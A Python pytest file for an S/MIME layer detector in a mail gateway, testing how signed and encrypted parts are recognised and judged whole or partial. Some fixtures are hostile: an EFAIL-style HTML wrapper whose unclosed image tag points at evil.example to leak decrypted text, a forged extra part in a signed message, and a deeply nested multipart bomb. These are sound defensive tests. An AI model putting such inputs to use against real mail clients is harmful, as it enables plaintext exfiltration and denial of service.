"""Finding layers: octets decide, labels do not, and a part never speaks for the whole."""

import pytest
from tests.unit.smime.letters import HEADER, encrypt, sign

from gatepost.errors import LimitExceeded
from gatepost.mail.content import Content, join
from gatepost.smime import layers, payload
from gatepost.smime.layers import Layer


def found(header: bytes, body: bytes) -> Layer:
    """The layer that must be there."""
    layer = layers.outermost(header, body)
    assert layer is not None
    return layer


@pytest.mark.parametrize(
    ("cipher", "kind"),
    [("aes256-cbc", "enveloped-data"), ("aes256-gcm", "authenveloped-data")],
)
@pytest.mark.parametrize(
    "label",
    [
        b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
        b"application/pkcs7-mime; smime-type=signed-data",
        b"application/x-pkcs7-mime; smime-type=authenticated-enveloped-data",
        b"application/pkcs7-mime",
        b"application/x-pkcs7-mime; name=smime.p7m",
        b"application/pkcs7-signature; name=smime.p7s",
        b"application/octet-stream; name=smime.p7m",
        b'application/octet-stream; name="SMIME.P7M"',
    ],
)
def test_the_octets_decide(label: bytes, cipher: str, kind: str) -> None:
    """Exchange drops smime-type, KIM invents one, Outlook says octet-stream."""
    _, body = encrypt(cipher=cipher)
    header = b"Content-Type: " + label + b"\r\nContent-Transfer-Encoding: base64\r\n"

    assert found(header, join(body)).kind == kind
    assert found(header, join(body)).whole


@pytest.mark.parametrize(
    "dressed",
    [
        lambda text: text,
        lambda text: b"-----BEGIN PKCS7-----\r\n" + text + b"-----END PKCS7-----\r\n",
    ],
)
def test_undeclared_base64(dressed: object) -> None:
    """A scanner lost the Content-Transfer-Encoding field: still readable."""
    assert callable(dressed)
    header, body = encrypt()
    header = header.replace(b"Content-Transfer-Encoding: base64\r\n", b"")

    assert found(header, dressed(join(body))).kind == "authenveloped-data"


def test_clear_signed() -> None:
    """The raw octets of part one, without the line end that belongs to the delimiter."""
    header, body = sign()
    layer = found(header, join(body))

    assert layer.kind == "multipart-signed"
    assert layer.signed is not None
    assert join(layer.signed).endswith(b"ten thousand, as agreed.\r\n")


def test_plain_mail_has_no_layer() -> None:
    """Most mail: no parsing at all."""
    assert layers.outermost(HEADER, b"text") is None


def test_a_text_file_called_p7m_is_no_layer() -> None:
    """A harmless attachment must not be reported as broken encryption."""
    header = b"Content-Type: application/octet-stream; name=notes.p7m\r\n"

    assert layers.outermost(header, b"only notes\r\n") is None


def test_pkcs7_mime_that_is_not_cms() -> None:
    """Named S/MIME but unreadable: a layer nobody can open, not plain mail."""
    assert found(b"Content-Type: application/pkcs7-mime\r\n", b"hello").kind == "unknown"


def wrapped(*parts: bytes) -> tuple[bytes, bytes]:
    """A multipart/mixed around whole entities."""
    body = b"".join(b"--out\r\n" + part + b"\r\n" for part in parts) + b"--out--\r\n"
    return b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=out\r\n", body


def entity(message: tuple[bytes, Content]) -> bytes:
    """A message's MIME entity."""
    return join(payload.enclosed(*message)[1])


def test_a_signed_part_is_partial() -> None:
    """A mailing list's footer, or a forger's sentence in front: partly signed is never signed."""
    footer = b"Content-Type: text/plain\r\n\r\n-- \r\nlist\r\n"

    layer = found(*wrapped(entity(sign()), footer))
    assert (layer.kind, layer.whole, layer.path) == ("multipart-signed", False, (1,))


def test_an_encrypted_part_is_partial() -> None:
    """EFAIL: ciphertext between two pieces of the attacker's HTML must stay closed."""
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'

    layer = found(*wrapped(html, entity(encrypt()), html))
    assert (layer.kind, layer.whole, layer.path) == ("authenveloped-data", False, (2,))


def test_a_single_part_in_a_mixed_is_still_partial() -> None:
    """The wrapping itself is not protected."""
    assert not found(*wrapped(entity(sign()))).whole


def test_an_attached_message_is_its_own() -> None:
    """A forwarded signed mail is an attachment; its signature says nothing about this mail."""
    inner = entity(sign())
    attached = b"Content-Type: message/rfc822\r\n\r\nFrom: x@y.example\r\n" + inner

    assert layers.outermost(*wrapped(b"Content-Type: text/plain\r\n\r\nfyi\r\n", attached)) is None


@pytest.mark.parametrize(
    "kind",
    [
        b'multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary=out',
        b"multipart/encrypted; boundary=out",
    ],
)
def test_openpgp_is_not_ours(kind: bytes) -> None:
    """PGP/MIME is for another reader; calling it broken S/MIME would alarm people."""
    header, body = wrapped(
        b"Content-Type: text/plain\r\n\r\nx\r\n",
        b"Content-Type: application/pgp-signature\r\n\r\nx\r\n",
    )

    assert layers.outermost(header.replace(b"multipart/mixed; boundary=out", kind), body) is None


def test_three_parts_are_not_a_signed_message() -> None:
    """RFC 1847: exactly two; a third one would be shown without being signed."""
    header, body = sign()
    more = join(body).replace(
        b"--=_token1--",
        b"--=_token1\r\nContent-Type: text/plain\r\n\r\nPS: pay now\r\n--=_token1--",
    )

    assert found(header, more).kind == "unknown"


def test_hostile_depth_is_limited() -> None:
    """A thousand nested multiparts must not exhaust the stack."""
    text = b"Content-Type: text/plain\r\n\r\nx\r\n"
    for depth in range(200):
        mark = b"b%d" % depth
        text = (
            b"Content-Type: multipart/mixed; boundary="
            + mark
            + b"\r\n\r\n--"
            + mark
            + b"\r\n"
            + text
            + b"\r\n--"
            + mark
            + b"--\r\n"
        )
    header, _, body = text.partition(b"\r\n\r\n")

    with pytest.raises(LimitExceeded):
        layers.outermost(header + b"\r\n", body)
